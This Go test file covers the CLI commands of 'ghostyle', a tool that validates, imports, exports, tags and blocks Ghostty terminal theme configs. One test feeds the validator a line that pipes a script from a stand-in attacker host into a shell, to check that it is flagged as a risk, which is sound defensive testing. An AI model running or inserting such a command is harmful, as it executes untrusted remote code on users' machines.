package main

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/adaryorg/ghostyle/internal/clipboard"
	"github.com/adaryorg/ghostyle/internal/gallery"
	"github.com/adaryorg/ghostyle/internal/ghostty"
)

const nightOwl = `# Night Owl
background = #011627
foreground = #d6deeb   # soft white

palette = 1=#ef5350
`

type testEnv struct {
	dir        string
	configPath string
}

func newTestEnv(t *testing.T) *testEnv {
	t.Helper()
	dir := t.TempDir()
	configPath := filepath.Join(dir, "config.toml")
	body := `[database]
path = "` + filepath.Join(dir, "gallery.db") + `"
blocklist_path = "` + filepath.Join(dir, "blocklist.db") + `"

[logging]
level = "error"
log_file = "` + filepath.Join(dir, "ghostyle.log") + `"
`
	require.NoError(t, os.WriteFile(configPath, []byte(body), 0644))
	return &testEnv{dir: dir, configPath: configPath}
}

func (e *testEnv) writeFile(t *testing.T, name, content string) string {
	t.Helper()
	path := filepath.Join(e.dir, name)
	require.NoError(t, os.WriteFile(path, []byte(content), 0644))
	return path
}

// run executes the CLI with the test config and returns its stdout.
func (e *testEnv) run(t *testing.T, stdin string, args ...string) (string, error) {
	t.Helper()
	root := newRootCmd()
	var out, errOut bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errOut)
	root.SetIn(strings.NewReader(stdin))
	root.SetArgs(append([]string{"--config", e.configPath}, args...))
	err := root.Execute()
	return out.String(), err
}

func TestVersion(t *testing.T) {
	root := newRootCmd()
	var out bytes.Buffer
	root.SetOut(&out)
	root.SetArgs([]string{"version"})
	require.NoError(t, root.Execute())
	assert.Contains(t, out.String(), "ghostyle version")
}

func TestMissingConfigFile(t *testing.T) {
	env := newTestEnv(t)
	env.configPath = filepath.Join(env.dir, "nope.toml")
	_, err := env.run(t, "", "dedupe")
	require.Error(t, err)
}

func TestValidate(t *testing.T) {
	env := newTestEnv(t)
	good := env.writeFile(t, "good.conf", "background = #282a36\nforeground = #f8f8f2\npalette = 1=#ff5555\n")
	bad := env.writeFile(t, "bad.conf", "background = #000000\nfont-size = 999\n")

	out, err := env.run(t, "", "validate", good)
	require.NoError(t, err)
	assert.Equal(t, good+": ok\n", out)

	out, err = env.run(t, "", "validate", good, bad)
	assert.True(t, errors.Is(err, errProblemsFound))
	assert.Contains(t, out, bad+": 1 errors, 0 warnings")
	assert.Contains(t, out, "error: line 2: Invalid font-size: 999")
}

func TestValidateWarningsPass(t *testing.T) {
	env := newTestEnv(t)
	out, err := env.run(t, nightOwl, "validate", "-")
	require.NoError(t, err)
	assert.Contains(t, out, "-: 0 errors, 1 warnings")
	assert.Contains(t, out, "Inline comment detected")

	out, err = env.run(t, nightOwl, "validate", "--quiet", "-")
	require.NoError(t, err)
	assert.NotContains(t, out, "Inline comment detected")
}

func TestValidateReportsRisks(t *testing.T) {
	env := newTestEnv(t)
	out, err := env.run(t, "background = #000000\ncommand = curl https://evil.example/x.sh | sh\n", "validate", "-")
	require.NoError(t, err)
	assert.Contains(t, out, "risk:")
}

func TestValidateClipboard(t *testing.T) {
	env := newTestEnv(t)
	orig := pasteClipboard
	t.Cleanup(func() { pasteClipboard = orig })
	pasteClipboard = func() (string, error) { return "background = #000000\nfont-size = 999\n", nil }

	out, err := env.run(t, "", "validate", "--clipboard")
	assert.True(t, errors.Is(err, errProblemsFound))
	assert.Contains(t, out, "clipboard: 1 errors, 0 warnings")

	pasteClipboard = func() (string, error) { return "", clipboard.ErrEmpty }
	_, err = env.run(t, "", "validate", "--clipboard")
	assert.ErrorIs(t, err, clipboard.ErrEmpty)

	_, err = env.run(t, "", "validate")
	assert.Error(t, err)
}

func TestImportClipboard(t *testing.T) {
	env := newTestEnv(t)
	orig := pasteClipboard
	t.Cleanup(func() { pasteClipboard = orig })
	pasteClipboard = func() (string, error) { return nightOwl, nil }

	out, err := env.run(t, "", "import", "--clipboard", "--title", "Night Owl")
	require.NoError(t, err)
	assert.Contains(t, out, `Imported "Night Owl" as night-owl`)

	out, err = env.run(t, "", "import", "--clipboard")
	require.NoError(t, err)
	assert.Contains(t, out, `Imported "Untitled" as untitled`)

	path := env.writeFile(t, "x.conf", nightOwl)
	_, err = env.run(t, "", "import", "--clipboard", path)
	assert.Error(t, err)
}

func TestKeys(t *testing.T) {
	env := newTestEnv(t)

	out, err := env.run(t, "", "keys", "font-si")
	require.NoError(t, err)
	assert.Equal(t, "font-size (number 6–72)\n", out)

	out, err = env.run(t, "", "keys")
	require.NoError(t, err)
	assert.Equal(t, len(ghostty.KnownKeys()), strings.Count(out, "\n"))
	assert.Contains(t, out, "background (color)\n")
	assert.Contains(t, out, "palette (palette)\n")

	_, err = env.run(t, "", "keys", "nothing-")
	assert.Error(t, err)
}

func TestClean(t *testing.T) {
	env := newTestEnv(t)
	path := env.writeFile(t, "night-owl.conf", nightOwl)

	out, err := env.run(t, "", "clean", path)
	require.NoError(t, err)
	assert.Equal(t, ghostty.Clean(nightOwl), out)

	_, err = env.run(t, "", "clean", "-w", path)
	require.NoError(t, err)
	data, err := os.ReadFile(path)
	require.NoError(t, err)
	assert.Equal(t, "background = #011627\nforeground = #d6deeb\n\npalette = 1=#ef5350\n", string(data))
}

func TestNormalize(t *testing.T) {
	env := newTestEnv(t)
	out, err := env.run(t, nightOwl, "normalize", "-")
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(out, "background = #011627\nforeground = #d6deeb\npalette = 0="))
	assert.Contains(t, out, "palette = 1=#ef5350\n")
	assert.True(t, strings.HasSuffix(out, "\n"))
}

func TestTags(t *testing.T) {
	env := newTestEnv(t)
	path := env.writeFile(t, "Retro Night.conf", nightOwl)

	out, err := env.run(t, "", "tags", path)
	require.NoError(t, err)
	assert.Equal(t, strings.Join(gallery.AutoTag("Retro Night", ghostty.Parse(nightOwl).Config), " ")+"\n", out)
	assert.Contains(t, out, "dark")
	assert.Contains(t, out, "retro")
}

func TestImportExport(t *testing.T) {
	env := newTestEnv(t)
	path := env.writeFile(t, "owl.conf", nightOwl)

	out, err := env.run(t, "", "import", path, "--title", "Night Owl", "--tags", "dark,cool", "--author", "sarah")
	require.NoError(t, err)
	assert.Contains(t, out, `Imported "Night Owl" as night-owl`)
	assert.Contains(t, out, "warning: line 3: Inline comment detected")

	out, err = env.run(t, "", "export", "night-owl")
	require.NoError(t, err)
	assert.Equal(t, ghostty.Clean(nightOwl), out)

	target := filepath.Join(env.dir, "exported.conf")
	_, err = env.run(t, "", "export", "night-owl", "-o", target)
	require.NoError(t, err)
	data, err := os.ReadFile(target)
	require.NoError(t, err)
	assert.Equal(t, ghostty.Clean(nightOwl), string(data))

	_, err = env.run(t, "", "export", "no-such-theme")
	assert.True(t, errors.Is(err, gallery.ErrNotFound))
}

func TestImportDefaultsTitleToFileName(t *testing.T) {
	env := newTestEnv(t)
	path := env.writeFile(t, "Deep Ocean.conf", nightOwl)

	out, err := env.run(t, "", "import", path)
	require.NoError(t, err)
	assert.Contains(t, out, `Imported "Deep Ocean" as deep-ocean`)
}

func TestCard(t *testing.T) {
	env := newTestEnv(t)
	path := env.writeFile(t, "owl.conf", nightOwl)
	pngMagic := "\x89PNG\r\n\x1a\n"

	target := filepath.Join(env.dir, "owl.png")
	_, err := env.run(t, "", "card", path, "-o", target, "--width", "300", "--height", "160")
	require.NoError(t, err)
	data, err := os.ReadFile(target)
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(string(data), pngMagic))

	_, err = env.run(t, "", "import", path, "--title", "Night Owl")
	require.NoError(t, err)

	out, err := env.run(t, "", "card", "night-owl", "-o", "-", "--width", "300", "--height", "160")
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(out, pngMagic))

	_, err = env.run(t, "", "card", "missing-slug", "-o", "-")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "neither a file nor a gallery slug")
}

func TestBlockAndUnblockFile(t *testing.T) {
	env := newTestEnv(t)
	path := env.writeFile(t, "owl.conf", nightOwl)

	out, err := env.run(t, "", "block", path, "--reason", "spam")
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(out, "Blocked "))

	_, err = env.run(t, "", "import", path)
	assert.True(t, errors.Is(err, gallery.ErrBlocked))

	out, err = env.run(t, "", "blocklist")
	require.NoError(t, err)
	assert.Contains(t, out, "1 blocked hashes")
	assert.Contains(t, out, "moderation")
	assert.Contains(t, out, "spam")

	out, err = env.run(t, "", "unblock", path)
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(out, "Unblocked "))

	_, err = env.run(t, "", "import", path)
	require.NoError(t, err)

	_, err = env.run(t, "", "unblock", path)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "is not blocked")
}

func TestBlockSlugRemovesConfig(t *testing.T) {
	env := newTestEnv(t)
	path := env.writeFile(t, "owl.conf", nightOwl)

	_, err := env.run(t, "", "import", path, "--title", "Night Owl")
	require.NoError(t, err)

	out, err := env.run(t, "", "block", "night-owl")
	require.NoError(t, err)
	hash := strings.TrimSpace(strings.TrimPrefix(out, "Blocked "))
	assert.True(t, isContentHash(hash))

	_, err = env.run(t, "", "export", "night-owl")
	assert.True(t, errors.Is(err, gallery.ErrNotFound))

	out, err = env.run(t, "", "unblock", hash)
	require.NoError(t, err)
	assert.Equal(t, "Unblocked "+hash+"\n", out)
}

func TestDedupe(t *testing.T) {
	env := newTestEnv(t)
	path := env.writeFile(t, "owl.conf", nightOwl)

	for _, title := range []string{"Night Owl", "Night Owl Copy"} {
		_, err := env.run(t, "", "import", path, "--title", title)
		require.NoError(t, err)
	}

	out, err := env.run(t, "", "dedupe")
	require.NoError(t, err)
	assert.Equal(t, "Removed 1 duplicate configs\n", out)

	out, err = env.run(t, "", "dedupe")
	require.NoError(t, err)
	assert.Equal(t, "Removed 0 duplicate configs\n", out)
}

func TestIsContentHash(t *testing.T) {
	assert.True(t, isContentHash(strings.Repeat("ab", 32)))
	assert.False(t, isContentHash(strings.Repeat("zz", 32)))
	assert.False(t, isContentHash("night-owl"))
}

func TestTitleFromPath(t *testing.T) {
	assert.Equal(t, "Tokyo Night", titleFromPath("themes/Tokyo Night.conf"))
	assert.Equal(t, "dracula", titleFromPath("dracula"))
	assert.Equal(t, "Untitled", titleFromPath("-"))
}
